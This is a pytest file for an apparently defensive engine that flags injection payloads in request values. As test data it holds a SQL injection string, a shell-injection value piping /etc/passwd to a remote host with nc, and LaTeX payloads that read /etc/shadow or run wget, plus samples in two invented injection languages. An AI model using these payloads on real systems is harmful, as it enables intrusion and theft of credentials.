"""The engine on the shipped bundle: findings, classes added as text, what is rejected."""

from __future__ import annotations

import pytest

from dragoman import Config, Engine, IntelError, Payload, UsageError, demo
from dragoman.config import Scan
from dragoman.findings import EXCERPT, excerpt
from dragoman.records import Where
from dragoman.sources import open_source

SQL = "1' UNION SELECT username, password FROM users-- -"
SHELL = "; cat /etc/passwd | nc 203.0.113.9 4444"

QUELL = """---
severity: high
---
# Quell stream injection

The value is glued into a stream expression of the Quell language, so that the sender appends verbs
of their own behind a pipe arrow and reads or drops whole ledgers.

- fetching all of a ledger: `~>fetch[all]~>from{users}`
- a condition that always holds: `~>where(1==1);;`
- dropping a ledger and making it last: `~>drop{ledger};;~>commit[]`
- granting a right behind a name: `name~>|grant[admin]|;;`
"""
QUELL_ATTACKS = [
    "bob;;~>fetch[all]~>from{accounts}",
    "7~>where(2==2);;",
    "q~>|grant[root]|;;~>commit[]",
]

FLUX = """---
id: flux-directive
severity: critical
---
# Directives in Flux templates

A Flux page runs what stands between two at signs and two exclamation marks. Input that holds such a
directive starts programs or changes the role of the session.

- `@@run:spawn<<node>>!!`
- `@@set:role<<admin>>!!`
- `!!@@load:file<</etc/passwd>>!!`
"""
FLUX_ATTACKS = ["@@run:spawn<<shell>>!!", "x!!@@set:role<<owner>>!!"]

LATEX = r"""---
id: latex-injection
cwe: CWE-74
severity: high
---
# LaTeX injection

A document is typeset from input that holds commands of its own, which read files of the server into
the page, write files, or run programs.

- a file read into the document: `\input{/etc/passwd}`, `\include{../../config}`
- a file read line by line: `\newread\file\openin\file=/etc/hosts\read\file to\line`
- a program started: `\immediate\write18{wget http://example.net/a}`
- a file shown as a listing: `\lstinputlisting{/etc/shadow}`, `\verbatiminput{/etc/hosts}`
"""
LATEX_ATTACKS = [
    r"\verbatiminput{/etc/passwd}",
    r"\newread\f \openin\f=/etc/group \read\f to\l \text{\l}",
    r"\input{/etc/hostname}",
]

FAMILIES = [
    pytest.param("quell-injection", QUELL, QUELL_ATTACKS, id="quell"),
    pytest.param("flux-directive", FLUX, FLUX_ATTACKS, id="flux"),
    pytest.param("latex-injection", LATEX, LATEX_ATTACKS, id="latex"),
]


@pytest.fixture(scope="module")
def engine(bundle_path):
    return Engine.load(bundle_path)


@pytest.fixture(scope="module")
def eager(bundle_path):
    """An engine that finds something in every record in which it reads anything."""
    return Engine.load(bundle_path, config=Config(scan=Scan(threshold=0.0)))


@pytest.fixture
def own(bundle_path, tmp_path):
    return Engine.load(bundle_path, intel=tmp_path / "intel")


@pytest.fixture
def write(tmp_path):
    def one(name, text):
        path = tmp_path / name
        path.write_text(text, "utf-8")
        return path

    return one


def value(text, id="v"):
    return Payload(id, text.encode(), "value", Where("test"))


def found(engine, *texts):
    """Verdict of each value that is a finding."""
    values = [value(text, str(i)) for i, text in enumerate(texts)]
    return {texts[int(f.record)]: f.verdict for f in engine.scan(values)}


def sample():
    return list(open_source([str(demo.sample_path())], format="http"))


# -- findings ----------------------------------------------------------------------------------


def test_a_finding_says_what_where_and_why(engine):
    benign = [value("blue running shoes", "b"), value("winter sale", "c")]
    (one,) = engine.scan([*benign, value(SQL, "a")])
    assert (one.record, one.verdict, one.family) == ("a", "sql-injection", "payloads")
    assert one.score >= one.threshold == engine.threshold
    assert one.evidence[0].span == (0, len(SQL))
    assert one.evidence[0].text == SQL
    assert len(one.runner_ups) == 3
    assert "class:sql-injection" not in {hit.id for hit in one.runner_ups}
    assert one.bundle == engine.digest
    assert one.intel_version == engine.intel_version


def test_most_of_the_planted_attacks_are_found(engine):
    scan = engine.scan(sample())
    hits = {f.record for f in scan}
    assert scan.counts.parsed == 300
    assert len(hits & demo.planted()) >= 0.6 * len(demo.planted())
    assert len(hits - demo.planted()) <= 5


def test_explain_agrees_with_the_scan(eager):
    (one,) = eager.scan([value(SQL)])
    said = eager.explain(SQL)
    assert said.finding is not None
    assert (said.finding.verdict, said.score) == (one.verdict, one.score)
    assert len(said.classes) == len(eager.info()["classes"])
    assert said.readings[0].value == SQL


@pytest.mark.parametrize("text", ["", "hello", "\0\xff", "%" * 3000])
def test_explain_takes_anything(engine, text):
    said = engine.explain(text)
    assert 0 <= said.score <= 1


def test_explain_of_what_is_too_long_names_the_limit(engine):
    with pytest.raises(UsageError, match=r"limits\.record_bytes"):
        engine.explain(b"x" * (Config().limits.record_bytes + 1))


@pytest.mark.parametrize("threshold", [0.0, 1.0])
def test_any_threshold_works(bundle_path, threshold):
    engine = Engine.load(bundle_path, config=Config(scan=Scan(threshold=threshold)))
    assert engine.explain("").finding is None
    engine.explain(SQL)
    assert list(engine.scan([value("blue shoes"), value(SQL)])) is not None


def test_something_else_than_a_payload_is_refused(engine):
    with pytest.raises(UsageError, match="cannot scan a int"):
        list(engine.scan(iter([3])))


# -- excerpts ----------------------------------------------------------------------------------


def test_a_short_record_is_shown_whole(eager):
    (one,) = eager.scan([value(SQL)])
    assert one.excerpt == (SQL.encode(), 0)


def test_a_long_record_is_shown_around_its_evidence(eager):
    lead = b"POST /a HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"
    body = b"&".join([b"note=plain" * 600, b"id=" + SQL.replace(" ", "+").encode(), b"x=y" * 900])
    (one,) = eager.scan([Payload("p", lead + body, "http", Where("test"))])
    data, start = one.excerpt
    begin, end = one.evidence[0].span
    assert len(data) == EXCERPT
    assert data == (lead + body)[start : start + EXCERPT]
    assert start <= begin
    assert end <= start + len(data)


@pytest.mark.parametrize("span", [None, (0, 10), (4000, 9000), (9990, 10_000), (0, 10_000)])
def test_an_excerpt_lies_within_the_record(span):
    data = bytes(range(250)) * 40
    part, start = excerpt(data, span)
    assert part == data[start : start + EXCERPT]
    assert len(part) == EXCERPT
    assert span is None or start <= span[0] < start + EXCERPT


# -- classes added as text ---------------------------------------------------------------------


@pytest.mark.parametrize(("slug", "text", "attacks"), FAMILIES)
def test_a_class_is_known_once_it_is_added(own, write, slug, text, attacks):
    before = found(own, *attacks)
    assert slug not in before.values()

    added = own.add_intel(write(f"{slug}.md", text), as_class=True)
    assert [t.id for t in added] == [f"class:{slug}"]
    after = found(own, *attacks)
    assert list(after.values()).count(slug) >= len(attacks) - 1, after

    assert own.remove_intel([f"class:{slug}"]) == 1
    assert found(own, *attacks) == before


def test_a_match_is_scored_like_an_attack(own, write):
    own.add_intel(write("quell-injection.md", QUELL), as_class=True)
    look = "~>fetch[all]~>from{users}"
    (same,) = own.scan([value(look)])
    (near,) = own.scan([value("bob;;~>fetch[all]~>from{accounts}")])
    assert same.threshold <= near.score <= same.score <= 1
    assert same.score > 0.99
    assert (same.name, same.severity) == ("Quell stream injection", "high")
    assert same.evidence[0].text == look
    said = own.explain(look)
    assert said.finding is not None
    assert said.classes[0].id == "class:quell-injection"


def test_the_field_that_matches_is_cited(own, write):
    own.add_intel(write("quell-injection.md", QUELL), as_class=True)
    request = (
        b"GET /find?sort=price&q=7~%3Ewhere(2%3D%3D2);; HTTP/1.1\r\nHost: a.example.com\r\n\r\n"
    )
    (one,) = own.scan([Payload("p", request, "http", Where("test"))])
    start, end = one.evidence[0].span
    assert (one.verdict, one.evidence[0].field) == ("quell-injection", "query:q")
    assert request[start:end] == b"7~%3Ewhere(2%3D%3D2);;"
    assert one.evidence[0].text == "7~>where(2==2);;"


def test_an_added_class_leaves_all_else_as_it_was(bundle_path, own, write):
    """No benign request of the sample becomes a finding; attacks keep their names, save one."""
    plain = {f.record: f.verdict for f in Engine.load(bundle_path).scan(sample())}
    files = [
        write(f"{slug}.md", text)
        for slug, text in (("quell-injection", QUELL), ("flux-directive", FLUX))
    ]
    own.add_intel([*files, write("latex-injection.md", LATEX)], as_class=True)
    after = {f.record: f.verdict for f in own.scan(sample())}
    assert after.keys() == plain.keys()
    renamed = {r for r in plain if plain[r] != after[r]}
    assert len(renamed) <= 1, renamed


def test_a_class_of_a_shipped_name_takes_its_place(own, write):
    before = own.info()["classes"]
    look = "' or 1=1-- -"
    text = "---\nid: sql-injection\nseverity: low\n---\n# Our SQL injection\n\nSQL in a value.\n\n"
    own.add_intel(write("ours.md", f"{text}- `{look}`\n"), as_class=True)
    assert own.info()["classes"] == before
    (one,) = own.scan([value(look)])
    assert (one.verdict, one.name, one.severity) == ("sql-injection", "Our SQL injection", "low")
    own.remove_intel(["class:sql-injection"])
    assert "Our SQL injection" not in {hit.title for hit in own.explain(look).classes}


def test_a_class_without_code_adds_no_prototype(own, write):
    plain = own.explain("blue running shoes").score
    text = "# Slow thinking\n\nThe server is asked to think for long.\n\n- a long question\n"
    own.add_intel(write("slow.md", text), as_class=True)
    assert "slow" in own.info()["classes"]
    assert own.explain("blue running shoes").score == plain


# -- intelligence ------------------------------------------------------------------------------


def test_what_cannot_be_added_is_handed_over(own, write):
    good = '{"cve": "CVE-2031-0001", "description": "SQL injection in the cart of Example Shop"}\n'
    rejected = []
    texts = own.add_intel(write("a.jsonl", good + '{"broken\n[1]\n'), on_reject=rejected.append)
    assert [t.id for t in texts] == ["CVE-2031-0001"]
    assert len(rejected) == 2
    assert all(r.reason and r.where.path.endswith("a.jsonl") for r in rejected)
    assert [t.id for t in own.list_intel()] == ["CVE-2031-0001"]


def test_nothing_usable_is_an_error_with_the_reason(own, write):
    with pytest.raises(IntelError, match="no usable text: "):
        own.add_intel(write("a.jsonl", '{"broken\n'))


def test_without_a_directory_nothing_can_be_added(engine, write):
    with pytest.raises(IntelError, match="no directory"):
        engine.add_intel(write("a.md", "# A\n\nB\n"))


def test_the_version_follows_the_intelligence(own, write):
    before = own.intel_version
    own.add_intel(write("a.md", "# Advice\n\nRead the manual of the example gateway.\n"))
    during = own.intel_version
    assert own.search("manual of the gateway", k=1)[0].title == "Advice"
    own.remove_intel(["doc:a#1"])
    assert before == own.intel_version != during


def test_search_needs_words(engine):
    with pytest.raises(UsageError, match="nothing to search"):
        engine.search("  ")
